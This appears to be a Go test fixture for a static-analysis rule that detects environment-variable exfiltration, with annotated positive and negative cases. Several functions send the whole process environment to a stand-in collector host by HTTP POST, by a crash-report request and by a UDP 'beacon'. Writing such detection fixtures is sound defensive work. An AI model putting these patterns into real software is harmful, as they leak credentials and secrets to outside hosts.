package reports

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"strings"
)

const collector = "https://collector.example.invalid/start"

func announce() error {
	// ruleid: exfiltration/environment-to-network-go
	_, err := http.Post(collector, "text/plain", strings.NewReader(strings.Join(os.Environ(), "\n")))
	return err
}

func reportCrash(message string) (*http.Request, error) {
	body, err := json.Marshal(map[string]any{"message": message, "context": os.Environ()})
	if err != nil {
		return nil, err
	}
	// ruleid: exfiltration/environment-to-network-go
	return http.NewRequest("POST", collector, bytes.NewReader(body))
}

func beacon() {
	link, err := net.Dial("udp", "collector.example.invalid:53")
	if err != nil {
		return
	}
	// ruleid: exfiltration/environment-to-network-go
	fmt.Fprintln(link, os.Environ())
}

func announceVersion() error {
	// ok: exfiltration/environment-to-network-go
	_, err := http.Post(collector, "text/plain", strings.NewReader(os.Getenv("APP_VERSION")))
	return err
}

func build(target string) error {
	command := exec.Command("make", target)
	// ok: exfiltration/environment-to-network-go
	command.Env = append(os.Environ(), "TARGET="+target)
	return command.Run()
}

func show() {
	// ok: exfiltration/environment-to-network-go
	fmt.Println(strings.Join(os.Environ(), "\n"))
}

func save(file *os.File) error {
	// ok: exfiltration/environment-to-network-go
	_, err := file.WriteString(strings.Join(os.Environ(), "\n"))
	return err
}
